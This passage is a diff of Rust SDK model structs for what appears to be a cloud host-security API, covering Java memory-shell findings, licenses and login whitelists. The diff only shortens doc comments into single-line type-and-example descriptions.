-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `KernelVersion`: a string.
-    ///
-    /// Example: `"5.1.0"`
+    /// `KernelVersion`; example: `"5.1.0"`
     pub kernel_version: String,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"ONLINE"`
+    /// `MachineStatus`; example: `"ONLINE"`
     pub machine_status: String,
 
-    /// `ProtectType`: a string.
-    ///
-    /// Example: `"BASIC_VERSION"`
+    /// `ProtectType`; example: `"BASIC_VERSION"`
     pub protect_type: String,
 
-    /// `VulNum`: a signed 64-bit integer.
-    ///
-    /// Example: `32`
+    /// `VulNum`; example: `32`
     pub vul_num: i64,
 
-    /// `CloudTags`: a list of [`Tags`] objects.
-    ///
-    /// Example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
+    /// `CloudTags`; example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
     pub cloud_tags: Vec<Tags>,
 
-    /// `InstanceID`: a string.
-    ///
-    /// Example: `"ins-dada"`
+    /// `InstanceID`; example: `"ins-dada"`
     #[tc(rename = "InstanceID")]
     pub instance_id: String,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: Option<String>,
 
-    /// `RegionName`: a string.
-    ///
-    /// Example: `"ap-beijing"`
+    /// `RegionName`; example: `"ap-beijing"`
     pub region_name: Option<String>,
 
-    /// `RegionId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `17`
+    /// `RegionId`; example: `17`
     pub region_id: Option<u64>,
 }
 
@@ -6501,29 +4220,19 @@ pub struct HostTagInfo {
 #[doc(alias = "IPAnalyse")]
 #[tc_model]
 pub struct IpAnalyse {
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: Option<u64>,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["勒索软件"]`
+    /// `Tags`; example: `["勒索软件"]`
     pub tags: Option<Vec<String>>,
 
-    /// `Family`: a list of strings.
-    ///
-    /// Example: `["勒索软件"]`
+    /// `Family`; example: `["勒索软件"]`
     pub family: Option<Vec<String>>,
 
-    /// `Profile`: a list of strings.
-    ///
-    /// Example: `["IDC"]`
+    /// `Profile`; example: `["IDC"]`
     pub profile: Option<Vec<String>>,
 
-    /// `Isp`: a string.
-    ///
-    /// Example: `"中国电信"`
+    /// `Isp`; example: `"中国电信"`
     pub isp: Option<String>,
 }
 
@@ -6532,27 +4241,19 @@ pub struct IpAnalyse {
 /// Returned in the output of [`DescribeIgnoreBaselineRule`](super::DescribeIgnoreBaselineRule).
 #[tc_model]
 pub struct IgnoreBaselineRule {
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"MySQL 弱****"`
+    /// `RuleName`; example: `"MySQL 弱****"`
     pub rule_name: String,
 
-    /// `RuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1103`
+    /// `RuleId`; example: `1103`
     pub rule_id: u64,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-10-29 11:0****"`
+    /// `ModifyTime`; example: `"2024-10-29 11:0****"`
     pub modify_time: String,
 
-    /// `Fix`: a string.
+    /// `Fix`
     pub fix: String,
 
-    /// `EffectHostCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `EffectHostCount`; example: `10`
     pub effect_host_count: u64,
 }
 
@@ -6561,39 +4262,25 @@ pub struct IgnoreBaselineRule {
 /// Returned in the output of [`DescribeIgnoreRuleEffectHostList`](super::DescribeIgnoreRuleEffectHostList).
 #[tc_model]
 pub struct IgnoreRuleEffectHostInfo {
-    /// `HostName`: a string.
-    ///
-    /// Example: `"host1"`
+    /// `HostName`; example: `"host1"`
     pub host_name: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `TagList`: a list of strings.
-    ///
-    /// Example: `["tag-01"]`
+    /// `TagList`; example: `["tag-01"]`
     pub tag_list: Vec<String>,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `LastScanTime`: a string.
-    ///
-    /// Example: `"2021-11-10 00:00:00"`
+    /// `LastScanTime`; example: `"2021-11-10 00:00:00"`
     pub last_scan_time: String,
 
-    /// `EventId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventId`; example: `1`
     pub event_id: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
+    /// `Quuid`; example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
     pub quuid: String,
 }
 
@@ -6602,22 +4289,16 @@ pub struct IgnoreRuleEffectHostInfo {
 /// Returned in the output of [`DescribeAlarmIncidentNodes`](super::DescribeAlarmIncidentNodes).
 #[tc_model]
 pub struct IncidentVertexInfo {
-    /// `IncidentId`: a string.
-    ///
-    /// Example: `"237665"`
+    /// `IncidentId`; example: `"237665"`
     pub incident_id: String,
 
-    /// `TableName`: a string.
-    ///
-    /// Example: `"malware"`
+    /// `TableName`; example: `"malware"`
     pub table_name: String,
 
-    /// `Vertex`: a list of [`VertexInfo`] objects.
+    /// `Vertex`
     pub vertex: Vec<VertexInfo>,
 
-    /// `VertexCount`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `VertexCount`; example: `0`
     pub vertex_count: i64,
 }
 
@@ -6627,23 +4308,16 @@ pub struct IncidentVertexInfo {
 /// Returned in the output of [`DescribeBaselineRuleIgnoreList`](super::DescribeBaselineRuleIgnoreList) and [`DescribeBaselineRuleList`](super::DescribeBaselineRuleList).
 #[tc_model]
 pub struct Item {
-    /// `ItemId`: a signed 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `ItemId`; example: `100`
     pub item_id: i64,
 
-    /// `ItemName`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"itemname"`
+    /// `ItemName`, always sent in responses; example: `"itemname"`
     pub item_name: Option<String>,
 
-    /// `CustomItemValues`: a list of unsigned 64-bit integers.
+    /// `CustomItemValues`
     pub custom_item_values: Option<Vec<u64>>,
 
-    /// `CategoryId`: a signed 64-bit integer.
-    ///
-    /// Example: `50`
+    /// `CategoryId`; example: `50`
     pub category_id: Option<i64>,
 }
 
@@ -6652,122 +4326,76 @@ pub struct Item {
 /// Returned in the output of [`DescribeJavaMemShellInfo`](super::DescribeJavaMemShellInfo).
 #[tc_model]
 pub struct JavaMemShellDetail {
-    /// `InstanceName`: a string.
-    ///
-    /// Example: `"v_llzlu-PC0"`
+    /// `InstanceName`; example: `"v_llzlu-PC0"`
     pub instance_name: String,
 
-    /// `InstanceState`: a string.
-    ///
-    /// Example: `"RUNNING"`
+    /// `InstanceState`; example: `"RUNNING"`
     pub instance_state: String,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"192.168.255.10"`
+    /// `PrivateIp`; example: `"192.168.255.10"`
     pub private_ip: String,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"110.40.207.98"`
+    /// `PublicIp`; example: `"110.40.207.98"`
     pub public_ip: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"测到java进程1128220/org.apache.catalina.startup.Bootstrap start中加载的o"`
+    /// `Description`; example: `"测到java进程1128220/org.apache.catalina.startup.Bootstrap start中加载的o"`
     pub description: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: String,
 
-    /// `RecentFoundTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `RecentFoundTime`; example: `"2021-01-20 16:17:11"`
     pub recent_found_time: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `ClassLoaderName`: a string.
-    ///
-    /// Example: `"org.apache.jasper.servlet.JasperLoader"`
+    /// `ClassLoaderName`; example: `"org.apache.jasper.servlet.JasperLoader"`
     pub class_loader_name: String,
 
-    /// `SuperClassName`: a string.
-    ///
-    /// Example: `"java.lang.Object"`
+    /// `SuperClassName`; example: `"java.lang.Object"`
     pub super_class_name: String,
 
-    /// `Md5`: a string.
-    ///
-    /// Example: `"37e54fce63f1ca6c82927caf7aa1c412"`
+    /// `Md5`; example: `"37e54fce63f1ca6c82927caf7aa1c412"`
     pub md5: String,
 
-    /// `Interfaces`: a string.
-    ///
-    /// Example: `"java.IO.Writer,java.IO.Reader"`
+    /// `Interfaces`; example: `"java.IO.Writer,java.IO.Reader"`
     pub interfaces: String,
 
-    /// `Annotations`: a string.
-    ///
-    /// Example: `"注释"`
+    /// `Annotations`; example: `"注释"`
     pub annotations: String,
 
-    /// `Pid`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Pid`; example: `1`
     pub pid: u64,
 
-    /// `Exe`: a string.
-    ///
-    /// Example: `"/usr/lib/jvm/java-6-openjdk-amd64/jre/bin/java"`
+    /// `Exe`; example: `"/usr/lib/jvm/java-6-openjdk-amd64/jre/bin/java"`
     pub exe: String,
 
-    /// `Args`: a string.
-    ///
-    /// Example: `"org.apache.jasper.servlet.JasperLoader"`
+    /// `Args`; example: `"org.apache.jasper.servlet.JasperLoader"`
     pub args: String,
 
-    /// `ClassName`: a string.
-    ///
-    /// Example: `"main.class"`
+    /// `ClassName`; example: `"main.class"`
     pub class_name: String,
 
-    /// `ClassContent`: a string.
-    ///
-    /// Example: `"avewsa==..."`
+    /// `ClassContent`; example: `"avewsa==..."`
     pub class_content: String,
 
-    /// `ClassContentPretty`: a string.
-    ///
-    /// Example: `"package com.company;  public class Main {      public static voi"`
+    /// `ClassContentPretty`; example: `"package com.company;  public class Main {      public static voi"`
     pub class_content_pretty: String,
 
-    /// `EventDescription`: a string.
-    ///
-    /// Example: `"腾讯御见..."`
+    /// `EventDescription`; example: `"腾讯御见..."`
     pub event_description: String,
 
-    /// `SecurityAdvice`: a string.
-    ///
-    /// Example: `"安全建议.."`
+    /// `SecurityAdvice`; example: `"安全建议.."`
     pub security_advice: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `MachineState`: a string.
-    ///
-    /// Example: `"OFFLINE"`
+    /// `MachineState`; example: `"OFFLINE"`
     pub machine_state: String,
 }
 
@@ -6776,82 +4404,52 @@ pub struct JavaMemShellDetail {
 /// Returned in the output of [`DescribeJavaMemShellList`](super::DescribeJavaMemShellList).
 #[tc_model]
 pub struct JavaMemShellInfo {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `142`
+    /// `Id`; example: `142`
     pub id: u64,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"dev-centos8"`
+    /// `Alias`; example: `"dev-centos8"`
     pub alias: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"192.168.255.10"`
+    /// `HostIp`; example: `"192.168.255.10"`
     pub host_ip: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"测到java进程1128220/org.apache.catalina.startup.Bootstrap start中加载的o"`
+    /// `Description`; example: `"测到java进程1128220/org.apache.catalina.startup.Bootstrap start中加载的o"`
     pub description: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: String,
 
-    /// `RecentFoundTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `RecentFoundTime`; example: `"2021-01-20 16:17:11"`
     pub recent_found_time: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
+    /// `Quuid`; example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
     pub quuid: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
+    /// `Uuid`; example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
     pub uuid: String,
 
-    /// `ClassName`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `ClassName`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub class_name: Option<String>,
 
-    /// `SuperClassName`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `SuperClassName`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub super_class_name: Option<String>,
 
-    /// `Interfaces`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `Interfaces`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub interfaces: Option<String>,
 
-    /// `Annotations`: a string.
-    ///
-    /// Example: `"comment"`
+    /// `Annotations`; example: `"comment"`
     pub annotations: Option<String>,
 
-    /// `LoaderClassName`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `LoaderClassName`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub loader_class_name: Option<String>,
 }
 
@@ -6860,24 +4458,16 @@ pub struct JavaMemShellInfo {
 /// Returned in the output of [`DescribeJavaMemShellPluginInfo`](super::DescribeJavaMemShellPluginInfo).
 #[tc_model]
 pub struct JavaMemShellPluginInfo {
-    /// `Pid`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Pid`; example: `12`
     pub pid: u64,
 
-    /// `MainClass`: a string.
-    ///
-    /// Example: `"main.class"`
+    /// `MainClass`; example: `"main.class"`
     pub main_class: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `ErrorLog`: a string.
-    ///
-    /// Example: `"[INFO]libpath..."`
+    /// `ErrorLog`; example: `"[INFO]libpath..."`
     pub error_log: String,
 }
 
@@ -6886,47 +4476,31 @@ pub struct JavaMemShellPluginInfo {
 /// Returned in the output of [`DescribeJavaMemShellPluginList`](super::DescribeJavaMemShellPluginList).
 #[tc_model]
 pub struct JavaMemShellPluginSetting {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
+    /// `Quuid`; example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
     pub quuid: String,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"v_llzlu-PC0"`
+    /// `Alias`; example: `"v_llzlu-PC0"`
     pub alias: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"192.168.255.10"`
+    /// `HostIp`; example: `"192.168.255.10"`
     pub host_ip: String,
 
-    /// `JavaShellStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `JavaShellStatus`; example: `1`
     pub java_shell_status: u64,
 
-    /// `Exception`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Exception`; example: `0`
     pub exception: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:1"`
+    /// `ModifyTime`; example: `"2021-01-20 16:17:1"`
     pub modify_time: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
+    /// `Uuid`; example: `"e1f081aa-7777-4fdf-a2f7-88f3faa3d302"`
     pub uuid: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -6935,14 +4509,10 @@ pub struct JavaMemShellPluginSetting {
 /// Returned in the output of [`DescribeLogIndex`](super::DescribeLogIndex).
 #[tc_model]
 pub struct KeyValueArrayInfo {
-    /// `Key`: a string.
-    ///
-    /// Example: `"key1"`
+    /// `Key`; example: `"key1"`
     pub key: String,
 
-    /// `Value`: a [`ValueInfo`].
-    ///
-    /// Example: `{"ContainZH":false,"SqlFlag":false,"Tokenizer":"tokenizer","Type":"type1"}`
+    /// `Value`; example: `{"ContainZH":false,"SqlFlag":false,"Tokenizer":"tokenizer","Type":"type1"}`
     pub value: ValueInfo,
 }
 
@@ -6951,12 +4521,10 @@ pub struct KeyValueArrayInfo {
 /// Returned in the output of [`DescribeLogIndex`](super::DescribeLogIndex).
 #[tc_model]
 pub struct KeyValueInfo {
-    /// `CaseSensitive`: a boolean.
-    ///
-    /// Example: `false`
+    /// `CaseSensitive`; example: `false`
     pub case_sensitive: bool,
 
-    /// `KeyValues`: a list of [`KeyValueArrayInfo`] objects.
+    /// `KeyValues`
     pub key_values: Vec<KeyValueArrayInfo>,
 }
 
@@ -6965,62 +4533,40 @@ pub struct KeyValueInfo {
 /// Returned in the output of [`DescribeLicenseBindList`](super::DescribeLicenseBindList).
 #[tc_model]
 pub struct LicenseBindDetail {
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"主机安全"`
+    /// `MachineName`; example: `"主机安全"`
     pub machine_name: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineIp`; example: `"1.1.1.1"`
     pub machine_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
+    /// `Quuid`; example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
+    /// `Uuid`; example: `"935e27b1-d675-4509-80bf-96fbf0764237"`
     pub uuid: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["标签"]`
+    /// `Tags`; example: `["标签"]`
     pub tags: Vec<String>,
 
-    /// `AgentStatus`: a string.
-    ///
-    /// Example: `"OFFLINE"`
+    /// `AgentStatus`; example: `"OFFLINE"`
     pub agent_status: String,
 
-    /// `IsUnBind`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsUnBind`; example: `false`
     pub is_un_bind: bool,
 
-    /// `IsSwitchBind`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsSwitchBind`; example: `false`
     pub is_switch_bind: bool,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `InstanceState`: a string.
-    ///
-    /// Example: `"RUNNING"`
+    /// `InstanceState`; example: `"RUNNING"`
     pub instance_state: Option<String>,
 
-    /// `AgentState`: a string.
-    ///
-    /// Example: `"UNINSTALLED"`
+    /// `AgentState`; example: `"UNINSTALLED"`
     pub agent_state: Option<String>,
 }
 
@@ -7029,27 +4575,19 @@ pub struct LicenseBindDetail {
 /// Returned in the output of [`DescribeLicenseBindSchedule`](super::DescribeLicenseBindSchedule).
 #[tc_model]
 pub struct LicenseBindTaskDetail {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"93b5fa8f-f5bc-4cf9-8253-d2739e5aa484"`
+    /// `Quuid`; example: `"93b5fa8f-f5bc-4cf9-8253-d2739e5aa484"`
     pub quuid: String,
 
-    /// `ErrMsg`: a string.
-    ///
-    /// Example: `"未查询到机器"`
+    /// `ErrMsg`; example: `"未查询到机器"`
     pub err_msg: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Status`; example: `2`
     pub status: u64,
 
-    /// `FixMessage`: a string.
-    ///
-    /// Example: `"资产管理-主机列表 点击同步资产"`
+    /// `FixMessage`; example: `"资产管理-主机列表 点击同步资产"`
     pub fix_message: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -7058,84 +4596,52 @@ pub struct LicenseBindTaskDetail {
 /// Returned in the output of [`DescribeLicenseList`](super::DescribeLicenseList).
 #[tc_model]
 pub struct LicenseDetail {
-    /// `LicenseId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `LicenseId`; example: `1`
     pub license_id: u64,
 
-    /// `LicenseType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `LicenseType`; example: `0`
     pub license_type: u64,
 
-    /// `LicenseStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `LicenseStatus`; example: `0`
     pub license_status: u64,
 
-    /// `LicenseCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `LicenseCnt`; example: `0`
     pub license_cnt: u64,
 
-    /// `UsedLicenseCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `UsedLicenseCnt`; example: `0`
     pub used_license_cnt: u64,
 
-    /// `OrderStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `OrderStatus`; example: `1`
     pub order_status: u64,
 
-    /// `Deadline`: a string.
-    ///
-    /// Example: `"2018-02-28 00:00:00"`
+    /// `Deadline`; example: `"2018-02-28 00:00:00"`
     pub deadline: String,
 
-    /// `ResourceId`: a string.
-    ///
-    /// Example: `"1c007adc2f0bb9f7c052860e2d3703fa"`
+    /// `ResourceId`; example: `"1c007adc2f0bb9f7c052860e2d3703fa"`
     pub resource_id: String,
 
-    /// `AutoRenewFlag`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `AutoRenewFlag`; example: `0`
     pub auto_renew_flag: u64,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `TaskId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `TaskId`; example: `1`
     pub task_id: u64,
 
-    /// `BuyTime`: a string.
-    ///
-    /// Example: `"2018-02-28 00:00:00"`
+    /// `BuyTime`; example: `"2018-02-28 00:00:00"`
     pub buy_time: String,
 
-    /// `SourceType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `SourceType`; example: `0`
     pub source_type: u64,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"资源名称"`
+    /// `Alias`; example: `"资源名称"`
     pub alias: String,
 
-    /// `Tags`: a list of [`Tags`] objects.
-    ///
-    /// Example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
+    /// `Tags`; example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
     pub tags: Vec<Tags>,
 
-    /// `FreezeNum`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `FreezeNum`; example: `0`
     pub freeze_num: Option<i64>,
 }
 
@@ -7144,29 +4650,19 @@ pub struct LicenseDetail {
 /// Returned in the output of [`DescribeImportMachineInfo`](super::DescribeImportMachineInfo) and [`DescribeMachinesSimple`](super::DescribeMachinesSimple).
 #[tc_model]
 pub struct LicenseOrder {
-    /// `LicenseId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `667445`
+    /// `LicenseId`; example: `667445`
     pub license_id: u64,
 
-    /// `LicenseType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `LicenseType`; example: `1`
     pub license_type: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `SourceType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `SourceType`; example: `0`
     pub source_type: u64,
 
-    /// `ResourceId`: a string.
-    ///
-    /// Example: `"resource_id"`
+    /// `ResourceId`; example: `"resource_id"`
     pub resource_id: String,
 }
 
@@ -7175,14 +4671,10 @@ pub struct LicenseOrder {
 /// Returned in the output of [`ModifyLicenseUnBinds`](super::ModifyLicenseUnBinds).
 #[tc_model]
 pub struct LicenseUnBindRsp {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"93b5fa8f-f5bc-4cf9-8253-d2739e5aa484"`
+    /// `Quuid`; example: `"93b5fa8f-f5bc-4cf9-8253-d2739e5aa484"`
     pub quuid: String,
 
-    /// `ErrMsg`: a string.
-    ///
-    /// Example: `"解绑次数不足"`
+    /// `ErrMsg`; example: `"解绑次数不足"`
     pub err_msg: String,
 }
 
@@ -7191,14 +4683,10 @@ pub struct LicenseUnBindRsp {
 /// Returned in the output of [`DescribeLogHistogram`](super::DescribeLogHistogram).
 #[tc_model]
 pub struct LogHistogram {
-    /// `Count`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Count`; example: `0`
     pub count: i64,
 
-    /// `TimeStamp`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `TimeStamp`; example: `0`
     pub time_stamp: i64,
 }
 
@@ -7207,22 +4695,16 @@ pub struct LogHistogram {
 /// Returned in the output of [`SearchLog`](super::SearchLog).
 #[tc_model]
 pub struct LogInfo {
-    /// `Content`: a string.
+    /// `Content`
     pub content: String,
 
-    /// `FileName`: a string.
-    ///
-    /// Example: `"fielaName.txt"`
+    /// `FileName`; example: `"fielaName.txt"`
     pub file_name: String,
 
-    /// `Source`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `Source`; example: `"1.1.1.1"`
     pub source: String,
 
-    /// `TimeStamp`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `TimeStamp`; example: `0`
     pub time_stamp: i64,
 }
 
@@ -7231,19 +4713,13 @@ pub struct LogInfo {
 /// Returned in the output of [`DescribeLogStorageRecord`](super::DescribeLogStorageRecord).
 #[tc_model]
 pub struct LogStorageRecord {
-    /// `Month`: a string.
-    ///
-    /// Example: `"202304"`
+    /// `Month`; example: `"202304"`
     pub month: String,
 
-    /// `UsedSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `UsedSize`; example: `0`
     pub used_size: u64,
 
-    /// `InquireSize`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `InquireSize`; example: `0`
     pub inquire_size: u64,
 }
 
@@ -7252,77 +4728,49 @@ pub struct LogStorageRecord {
 /// Returned in the output of [`DescribeLoginWhiteCombinedList`](super::DescribeLoginWhiteCombinedList).
 #[tc_model]
 pub struct LoginWhiteCombinedInfo {
-    /// `Places`: a list of [`Place`] objects.
+    /// `Places`
     pub places: Vec<Place>,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"uname"`
+    /// `UserName`; example: `"uname"`
     pub user_name: String,
 
-    /// `SrcIp`: a string.
-    ///
-    /// Example: `"19.*.1.**"`
+    /// `SrcIp`; example: `"19.*.1.**"`
     pub src_ip: String,
 
-    /// `Locale`: a string.
-    ///
-    /// Example: `"beijing"`
+    /// `Locale`; example: `"beijing"`
     pub locale: String,
 
-    /// `Remark`: a string.
-    ///
-    /// Example: `"备注"`
+    /// `Remark`; example: `"备注"`
     pub remark: String,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `StartTime`; example: `"2024-11-04 09:57:28"`
     pub start_time: String,
 
-    /// `EndTime`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `EndTime`; example: `"2024-11-04 09:57:28"`
     pub end_time: String,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsGlobal`; example: `1`
     pub is_global: u64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"white_name"`
+    /// `Name`; example: `"white_name"`
     pub name: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"agent_gysdah"`
+    /// `Desc`; example: `"agent_gysdah"`
     pub desc: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1001`
+    /// `Id`; example: `1001`
     pub id: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `CreateTime`; example: `"2024-11-04 09:57:28"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `ModifyTime`; example: `"2024-11-04 09:57:28"`
     pub modify_time: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"df131b24-8528-4809-9d07-a9e4d58ad566"`
+    /// `Uuid`; example: `"df131b24-8528-4809-9d07-a9e4d58ad566"`
     pub uuid: String,
 
-    /// `Locations`: a string.
-    ///
-    /// Example: `"shanghai"`
+    /// `Locations`; example: `"shanghai"`
     pub locations: String,
 }
 
@@ -7331,62 +4779,40 @@ pub struct LoginWhiteCombinedInfo {
 /// Returned in the output of [`DescribeLoginWhiteList`](super::DescribeLoginWhiteList).
 #[tc_model]
 pub struct LoginWhiteLists {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
